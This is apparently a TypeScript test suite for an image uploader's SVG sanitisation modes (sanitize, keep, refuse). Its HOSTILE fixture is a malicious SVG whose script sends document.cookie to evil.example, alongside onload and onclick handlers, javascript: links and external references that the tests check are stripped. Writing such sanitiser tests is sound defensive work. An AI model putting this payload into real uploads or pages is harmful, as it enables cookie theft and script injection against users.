// SVG served from the bucket's domain would run its scripts there. The "svg" setting: sanitize (default, with
// DOMPurify on jsdom), keep, refuse. Through the real PicGo and the local OSS server; rendered with sharp (librsvg).
import sharp from 'sharp'
import { keyOfUrl, localSettings } from '../helpers/picgo'
import { parseStrictXml } from '../helpers/strict-xml'
import { useOssServer } from '../helpers/oss-server'
import { uploadFiles } from '../helpers/upload'

const HOSTILE = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg [<!ENTITY x "expanded">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="30" viewBox="0 0 40 30" onload="alert(1)">
  <script>fetch('//evil.example/?c=' + document.cookie)</script>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#ff0000"/><stop offset="1" stop-color="#ff0000"/></linearGradient></defs>
  <style>@import url(http://evil.example/x.css);</style>
  <rect width="40" height="30" fill="url(#g)" onclick="steal()" style="fill:url(http://evil.example/t.png)"/>
  <a href="javascript:alert(2)"><text x="2" y="20" font-size="4">hi&#160;there</text></a>
  <image href="http://evil.example/track.png" width="1" height="1"/>
  <foreignObject width="1" height="1"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://evil.example/"/></body></foreignObject>
</svg>
`

const server = useOssServer()

async function upload(
  settings: Record<string, unknown>,
  svg = HOSTILE
): Promise<{ stored?: { body: Buffer; contentType: string }; error?: string; logs: string[] }> {
  const { urls, error, logs } = await uploadFiles(localSettings(server, settings), { ['drawing.svg']: svg })
  if (error) return { error: error.message, logs }
  return { stored: server.getObject('test-bucket', keyOfUrl(urls[0]!)), logs }
}

test('by default scripts, event handlers, javascript: URLs and external references are removed; the drawing stays', async () => {
  const { stored, logs } = await upload({})
  const text = stored!.body.toString()
  expect(stored!.contentType).toBe('image/svg+xml')
  for (const hostile of ['<script', 'onload', 'onclick', 'javascript:', 'evil.example', 'foreignObject', '@import', 'ENTITY']) {
    expect(text).not.toContain(hostile)
  }
  expect(text).toMatch(/<linearGradient id="g">/)
  expect(text).toMatch(/viewBox="0 0 40 30"/)
  expect(parseStrictXml(text)[0]!.name).toBe('svg')
  const { data, info } = await sharp(stored!.body).removeAlpha().raw().toBuffer({ resolveWithObject: true })
  expect(info).toMatchObject({ width: 40, height: 30 })
  expect([...data.subarray(0, 3)]).toEqual([255, 0, 0])
  expect(logs.join('\n')).toMatch(/drawing\.svg: SVG sanitised: removed (?=.*script)(?=.*onload)(?=.*href)/)
})

test('an attribute holding "&lt;" is stored as well-formed XML, with its text, and still renders', async () => {
  const labelled =
    '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="3"><g aria-label="latency &lt; 5 ms"><rect width="4" height="3" fill="#00ff00"/></g></svg>'
  const { stored } = await upload({}, labelled)
  const group = parseStrictXml(stored!.body.toString()).find((element) => element.name === 'g')
  expect(group!.attributes['aria-label']).toBe('latency < 5 ms')
  const { data } = await sharp(stored!.body).removeAlpha().raw().toBuffer({ resolveWithObject: true })
  expect([...data.subarray(0, 3)]).toEqual([0, 255, 0])
})

test('svg: "keep" uploads it byte for byte', async () => {
  const { stored } = await upload({ svg: 'keep' })
  expect(stored!.body.toString()).toBe(HOSTILE)
})

test('svg: "refuse" refuses it by name and setting, and stores nothing', async () => {
  const before = server.listKeys('test-bucket').length
  const { error } = await upload({ svg: 'refuse' })
  expect(error).toMatch(/drawing\.svg: SVG files are refused \("svg" is "refuse"\)/)
  expect(server.listKeys('test-bucket')).toHaveLength(before)
})

test('an unknown "svg" value is refused with the choices', async () => {
  const { error } = await upload({ svg: 'strip' })
  expect(error).toMatch(/Expected one of "sanitize", "keep", "refuse" for "svg" but received "strip"/)
})
